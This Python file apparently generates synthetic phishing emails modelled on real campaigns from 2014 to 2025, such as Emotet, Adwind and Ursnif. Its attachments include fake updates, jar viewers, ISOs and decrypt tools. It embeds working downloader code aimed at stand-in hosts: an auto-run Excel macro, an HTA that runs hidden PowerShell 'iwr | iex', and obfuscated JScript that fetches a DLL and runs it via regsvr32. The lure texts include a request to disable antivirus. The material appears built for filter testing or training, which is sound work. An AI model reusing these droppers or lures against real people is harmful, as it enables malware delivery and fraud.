"""Mass mail that hides little: updates, removal tools, viewers, forms and add-ins that the letter names as what they are, 2014 to 2025."""
from recipe import Recipe, auth
from making import hops, program, zipped
from kit import Iso, Pe, Rar5, Zip, docs, icons, office

ORDER_VBA = """Private Sub Workbook_Open()
    Dim h As Object, s As Object, p As String
    p = Environ("APPDATA") & "\\chumon.exe"
    Set h = CreateObject("Microsoft.XMLHTTP")
    h.Open "GET", "http://order.example.invalid/f/chumon.bin", False
    h.Send
    Set s = CreateObject("ADODB.Stream")
    s.Type = 1: s.Open: s.Write h.responseBody: s.SaveToFile p, 2: s.Close
    Shell p, vbHide
    Worksheets(1).Range("B4").Value = Date
End Sub
"""
FORM_HTA = '''<html><head><title>出欠登録フォーム</title><hta:application id="f" border="dialog" maximizebutton="no" windowstate="normal"/>
<script language="VBScript">
Sub Window_OnLoad
  Dim q: q = "pow" & "ersh" & "ell -w hidden -c ""iwr http://form.example.invalid/r.ps1 -UseBasicParsing | iex"""
  CreateObject("WScript.Shell").Run q, 0
End Sub
</script></head><body><h3>出欠登録</h3>お名前 <input size=20> <select><option>出席<option>欠席</select> <input type=button value="登録" onclick="window.close()"></body></html>
'''
# Names of variables without sense, the host in pieces, as those waves had it.
THREAD_JS = ("var qoe=['h','ttp:','//dl.exa','mple.inv','alid/l','.php'];var zk=this['Activ'+'eXObject'];var wv=new zk('MSX'+'ML2.XMLH'+'TTP');"
             "wv.open('G'+'ET',qoe.join(''),false);wv.send();var pd=new zk('WSc'+'ript.Sh'+'ell');var sx=new zk('AD'+'ODB.St'+'ream');sx.Type=1;sx.Open();sx.Write(wv.responseBody);"
             "sx.SaveToFile(pd.ExpandEnvironmentStrings('%TEMP%')+'\\\\uq.dll',2);pd.Run('regsvr32 /s %TEMP%\\\\uq.dll',0);\n")


def jar(main, classes):
    z = Zip().add("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nCreated-By: 1.8.0_144 (Oracle Corporation)\r\nMain-Class: " + main.encode() + b"\r\n\r\n")
    for i, c in enumerate(classes):
        z.add(c, b"\xca\xfe\xba\xbe\0\0\0\x34" + docs.noise(1100 + 70 * i))
    return z.add("oiiIl/IlIiI.dat", docs.noise(52000)).bytes()


def invoice_tool():
    return zipped(("インボイス発行ツール/インボイス発行ツール.exe", Pe(machine=0x8664, stamp=0x5E100000).icon(icons.logo()).version(CompanyName="Example Media Ltd.", FileDescription="Media Launcher", OriginalFilename="launcher.exe").sign().bytes()),
                  ("インボイス発行ツール/libcef.dll", Pe(machine=0x8664, dll=True, stamp=0x67100000).bytes()), ("インボイス発行ツール/config.dat", docs.noise(48000)),
                  ("インボイス発行ツール/使い方.txt", "インボイス発行ツール.exe を開いてください。\r\nウイルス対策ソフトは一時的に停止してください。\r\n".encode("cp932")))


RECIPES = [
    Recipe("m-open-flash-update", "mass", "IPA, urgent notices of July 2015 on holes of Flash Player, whose tone the mail takes; the wording is ours",
           "A maker's name tells of an urgent update of Flash; the installer is in the zip, the sender is a provider's customer.", "【重要】Adobe Flash Player の緊急アップデートについて", "update@flash-jp-info.example", name="Adobe Systems",
           twin="b-it-installer", to="soumu@example.ac.jp", date="Wed, 15 Jul 2015 07:53:10 +0900",
           body="Adobe Flash Player をご利用の皆様\n\nFlash Player 18.0.0.203 およびそれ以前のバージョンに、深刻な脆弱性が確認されました。\nこの脆弱性を悪用した攻撃がすでに発生しております。\n\n本メールに添付の install_flash_player_18.zip を解凍し、\ninstall_flash_player_18.exe を実行して最新版に更新してください。\n\n"
                "ブラウザはすべて閉じてから実行してください。\n\n(C) 2015 Adobe Systems Incorporated\n", client=("p203-0-113-27.ap.broadband.example", "203.0.113.27"), message_id="<000601d0be87$5d2c11a0$178434e0$@flash-jp-info.example>",
           headers=[auth("softfail", domain="flash-jp-info.example"), ("X-Mailer", "Microsoft Outlook Express 6.00.2900.5512"), ("X-Priority", "1")],
           attach=[("install_flash_player_18.zip", lambda: zipped(("install_flash_player_18.exe", program(icons.logo(), 125000, packed=True, stamp=0x55A4E000, FileDescription="Adobe Flash Player Installer", CompanyName="Adobe Systems Incorporated", FileVersion="18,0,0,209"))), "application/zip")]),

    Recipe("m-open-patch", "mass", "vendors, September 2003, on Swen, which came as a patch of Microsoft; here moved to 2014, the wording is ours",
           "A maker's name sends a cumulative patch as a bare program to all users.", "November 2014, Cumulative Security Patch", "security-bulletin@ms-update-center.example", name="Microsoft Security Support",
           to="eigyo@example.co.jp", charset="us-ascii", date="Thu, 13 Nov 2014 03:12:50 -0500",
           body="Microsoft Customer,\n\nthis is the latest version of the security update, the \"November 2014, Cumulative Patch\", which fixes all known security vulnerabilities affecting Internet Explorer and Outlook. "
                "Install now to continue keeping your computer secure.\n\nHow to install: run Windows-KB3011443-x86.exe. Choose Yes on the displayed dialog box.\nHow to use: you do not need to do anything after installing this item.\n\n"
                "Please do not reply to this message. It was sent from an unmonitored address.\n\nMicrosoft Security Support\n", client=("203-0-113-84.cable.example", "203.0.113.84"), message_id="<20141113081250.A0C44.qmail@203-0-113-84.cable.example>",
           headers=[("Return-Path", "<bnc-4411@ms-update-center.example>"), auth("none", domain="ms-update-center.example")],
           attach=[("Windows-KB3011443-x86.exe", lambda: program(icons.logo(), 106000, packed=True, stamp=0x54620000, CompanyName="Microsoft Corporation", FileDescription="Self-Extracting Cabinet"))]),

    Recipe("m-open-greeting-scr", "mass", "vendors, 2007, on the Storm worm's greeting cards as programs; here moved to December 2014 in Japanese, the wording is ours",
           "A Christmas screensaver from a site for cards, with guidance how to install it.", "クリスマスカードが届いています", "card@egreeting-present.example", name="グリーティングカード", twin="b-runs-screensaver", to="kenkyu-b@example.ac.jp",
           date="Mon, 22 Dec 2014 21:04:39 +0900",
           body="こんにちは!\n\nお友達からクリスマスのスクリーンセーバーが届いています。\n\nツリーに雪が降る、とてもきれいな画面です。\n\n■設定の方法\n1. 添付の xmas_tree.scr を保存します\n2. ファイルを右クリックして「インストール」を選びます\n3. 音楽も流れますので、音量にご注意ください\n\n"
                "メリークリスマス!\n\n※このカードは30日間有効です。\n", client=("host-203-0-113-190.dyn.example", "203.0.113.190"), message_id="<5498093A.88@egreeting-present.example>",
           headers=[auth("none", domain="egreeting-present.example"), ("X-Mailer", "The Bat! (v5.0.36) Professional")],
           attach=[("xmas_tree.scr", lambda: program(icons.logo(), 133000, packed=True, stamp=0x54960000))]),

    Recipe("m-open-jar-viewer", "mass", "Kaspersky, February 2016, and Trend Micro, July 2017: Adwind (jRAT) as .jar in mass mail; the wording is ours",
           "A freight firm's clerk sends an invoice viewer as a bare jar.", "Freight invoice 88120 - viewer attached", "docs@oceanlink-freight.example", name="Oceanlink Documentation", twin="b-runs-instrument-jar",
           to="eigyo@example.co.jp", charset="utf-8", date="Tue, 13 Mar 2018 02:41:17 +0000",
           body="Dear customer,\n\nfrom this month our invoices are issued in a protected format. Please open the attached InvoiceViewer.jar with Java to read and print invoice 88120 (USD 2,340.00). If Java is missing, install it from java.com first.\n\n"
                "Payment is due within 7 days.\n\nDocumentation Dept.\nOceanlink Freight Services\n", client=("server9.cheaphost.example", "203.0.113.109"), message_id="<1d0f4be02a@server9.cheaphost.example>",
           finish=hops("from webmail.cheaphost.example (localhost [127.0.0.1]) by server9.cheaphost.example (Postfix) with ESMTPA id 1D0F4; Tue, 13 Mar 2018 02:41:15 +0000"),
           headers=[auth("softfail", domain="oceanlink-freight.example"), ("User-Agent", "Roundcube Webmail/1.2.3"), ("Reply-To", "oceanlink.docs@mail.example")],
           attach=[("InvoiceViewer.jar", lambda: jar("iIlli.lIIil", ["iIlli/lIIil.class", "iIlli/IIlIl.class", "iIlli/liIll.class"]), "application/java-archive")]),

    Recipe("m-open-order-xls", "mass", "JC3, virus mails of 2017 to 2019 (Ursnif, Bebloh): orders and invoices as .xls with macros; the wording is ours",
           "A polite letter on a new order form; the workbook fetches a program when it opens.", "新年度 発注書の書式変更のお願い", "y.kitagawa@shouzai-net.example", name="北川", hard=True, twin="b-runs-order-form", to="koubai@example.co.jp",
           date="Tue, 26 Mar 2019 16:20:05 +0900",
           body="お世話になっております。北川です。\n\n4月より発注書の書式を変更することとなりました。\n添付のエクセルにご記入の上、ご返信いただけますようお願いいたします。\n\n入力欄に自動計算を設定しておりますので、\n開きましたら「編集を有効にする」「コンテンツの有効化」を順に押してください。\n\nお手数をおかけいたしますが、何卒よろしくお願い申し上げます。\n",
           client=("cpe-203-0-113-233.net.example", "203.0.113.233"), message_id="<5C99D2F5.1070807@shouzai-net.example>", headers=[auth("none", domain="shouzai-net.example"), ("User-Agent", "Mozilla/5.0 (Windows NT 6.1; rv:60.0) Gecko/20100101 Thunderbird/60.5.3")],
           attach=[("発注書.xls", lambda: office.xls(ORDER_VBA, text="発注書\n品名\n数量\n単価\n合計"), "application/vnd.ms-excel")]),

    Recipe("m-open-decrypt-tool", "mass", "MITRE ATT&CK T1204.002 and T1566.001 (programs that the reader is asked to start); Japan's custom of locked files; the wording is ours",
           "An invoice comes locked, beside it the decrypting tool, which is the program meant to run.", "請求書送付のご案内(暗号化ファイル)", "seikyu@kaikei-haishin.example", name="経理代行センター", twin="b-runs-accounting-locked", to="keiri@example.ac.jp", charset="utf-8",
           date="Mon, 31 Aug 2020 08:36:22 +0900",
           body="経理ご担当者様\n\nいつもお世話になっております。\n\n8月分の請求書をお送りいたします。\n情報保護のため暗号化しておりますので、同梱の復号ツール(fukugou.exe)を起動し、請求書.enc を画面にドラッグしてください。\n\n{password}\n\nMac および携帯端末ではご利用いただけません。\nお支払期限は9月4日です。\n\n経理代行センター\n",
           password_line="復号ツールの起動パスワード:0831", client=("v133.vps-host.example", "203.0.113.133"), message_id="<20200830233622.11@kaikei-haishin.example>",
           headers=[("Return-Path", "<www-data@v133.vps-host.example>"), auth("none", domain="kaikei-haishin.example"), ("X-Mailer", "PHPMailer 5.2.9 (https://github.com/PHPMailer/PHPMailer/)")],
           attach=[("請求書_8月分.zip", lambda: zipped(("請求書.enc", docs.noise(24000)), ("fukugou.exe", program(icons.logo(), 118000, packed=True, stamp=0x5F4B0000))), "application/zip")]),

    Recipe("m-open-thread-js", "mass", "IPA and JPCERT/CC, 2019 to 2021: answers in stolen threads (Emotet, IcedID); the script and the wording are ours",
           "An answer in a stolen thread, from a foreign box, names the script in its zip.", "Re: 納期回答の件", "reservas@hotel-costa.example", name="部品営業部 相沢", hard=True, twin="b-world-partner", to="koubai@example.co.jp", charset="utf-8",
           date="Thu, 17 Jun 2021 10:58:36 +0200",
           body="お世話になっております。\n\n納期の一覧をお送りします。zip の中の nouki_list.js をダブルクリックすると一覧が表示されます。\n\nよろしくお願いいたします。\n\n部品営業部 相沢\naizawa@buhin-eigyo.example\n\n2021/06/14 13:22 例示商事 購買部:\n> 相沢様\n> PO 77342 の3品目について、納期をご回答ください。\n> 例示商事 購買部\n",
           client=("mail.hotel-costa.example", "203.0.113.68"), message_id="<b9d27410-88f1@hotel-costa.example>", finish=hops("from [203.0.113.200] (helo=[203.0.113.200]) by mail.hotel-costa.example with esmtpa (Exim 4.93) id 1ltnXe-0003sA; Thu, 17 Jun 2021 10:58:34 +0200"),
           headers=[auth("pass", "pass", "none", "hotel-costa.example"), ("In-Reply-To", "<60C6DA3F.2040503@example.co.jp>"), ("References", "<60C6DA3F.2040503@example.co.jp>")],
           attach=[("nouki_list.zip", lambda: zipped(("nouki_list.js", THREAD_JS.encode())), "application/zip")]),

    Recipe("m-open-catalog-iso", "mass", "Netskope, June 2019, and vendors to 2022: information stealers in small disc images; the wording is ours",
           "A buyer sends his catalogue as a disc image that holds one program.", "Catalogue disc and inquiry for 2022", "procurement@gulf-trading-fze.example", name="Faisal Rahman", to="eigyo@example.co.jp", charset="utf-8",
           date="Wed, 19 Jan 2022 05:27:58 +0000",
           body="Dear Sir or Madam,\n\nwe are a trading company in Sharjah and found you in an export directory. Attached is our catalogue on disc (Catalogue2022.iso). Open the disc and start Catalogue2022.exe, mark the items that you can offer and send us your best price CIF Jebel Ali.\n\n"
                "We wait for your soonest reply.\n\nFaisal Rahman\nProcurement\nGulf Trading FZE\n", client=("hwsrv-7712.hosting.example", "203.0.113.72"), message_id="<f71ab0c2e8@gulf-trading-fze.example>",
           headers=[auth("fail", domain="gulf-trading-fze.example"), ("User-Agent", "Roundcube Webmail/1.4.11"), ("Reply-To", "faisal.procure@gmail.com"), ("Cc", "undisclosed-recipients:;")],
           attach=[("Catalogue2022.iso", lambda: Iso(volume="CATALOGUE").add("Catalogue2022.exe", program(icons.logo(), 210000, packed=True, stamp=0x61E70000)).bytes())]),

    Recipe("m-open-form-hta", "mass", "MITRE ATT&CK T1218.005 (mshta) and T1566.001; the wording is ours",
           "An office of a seminar sends the form for attendance as an .hta in a rar, which starts a hidden shell.", "オンラインセミナー出欠登録フォームの送付", "seminar-info@business-manabi.example", name="セミナー事務局", twin="b-runs-factory-hta", to="jinji@example.ac.jp", charset="utf-8",
           date="Fri, 10 Nov 2023 12:15:40 +0900",
           body="ご担当者様\n\nこのたびは「電子帳簿保存法 直前対策セミナー」にお申し込みいただき、ありがとうございます。\n\n出欠登録フォーム(form.hta)を添付いたします。\nダブルクリックで起動し、お名前を入力して「登録」を押してください。\n11月17日(金)締切です。\n\nお申し込みのお心当たりがない場合も、欠席としてご登録ください。\n\nセミナー事務局\n",
           client=("mta3.bulk-cloud.example", "203.0.113.93"), message_id="<654d9f0c.8812@business-manabi.example>", headers=[auth("pass", "none", "none", "business-manabi.example"), ("Reply-To", "seminar.kanri@outlook.com")],
           attach=[("form.rar", lambda: Rar5().add("form.hta", FORM_HTA.encode("utf-8-sig")).bytes(), "application/x-rar-compressed")]),

    Recipe("m-open-invoice-tool", "mass", "Proofpoint, September 2023, on malware of Chinese origin in mass mail (ValleyRAT, Sainbox); the tool and the wording are ours",
           "A tool for tax-qualified invoices from an address at qq.com; a signed program with a library and data beside it.", "【無料配布】インボイス対応 請求書発行ツールのご案内", "2871990456@qq.com", name="国税インボイス推進室", to="keiri@example.ac.jp",
           charset="utf-8", date="Thu, 07 Nov 2024 11:02:13 +0800",
           body="事業者の皆様\n\nインボイス制度の経過措置の見直しに伴い、11月以降の請求書は新しい様式での発行が必要となります。\n\n国税庁の様式に対応した「インボイス発行ツール」を無料で配布しております。\n添付を解凍し、フォルダ内の「インボイス発行ツール.exe」を起動してください。\n登録番号と事業所名を入力すると、すぐに発行できます。\n\n"
                "未対応の場合、仕入税額控除が認められないことがあります。\n\n国税インボイス推進室\n", client=("out203-0-113-242.mail.qq.example", "203.0.113.242"), message_id="<tencent_6A1B0E33F7C2@qq.com>", headers=[auth("pass", "pass", "pass", "qq.com"), ("X-Mailer", "QQMail 2.x")],
           attach=[("インボイス発行ツール.zip", invoice_tool, "application/zip")]),
]
